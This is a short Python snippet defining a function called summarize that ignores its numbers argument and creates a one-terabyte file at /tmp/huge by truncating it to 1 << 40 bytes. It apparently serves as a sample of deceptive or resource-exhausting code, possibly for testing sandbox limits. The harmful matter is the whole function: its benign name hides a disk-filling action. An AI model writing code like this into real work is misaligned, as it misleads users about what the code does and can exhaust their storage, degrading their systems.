def summarize(numbers):
    with open("/tmp/huge", "wb") as file:
        file.truncate(1 << 40)
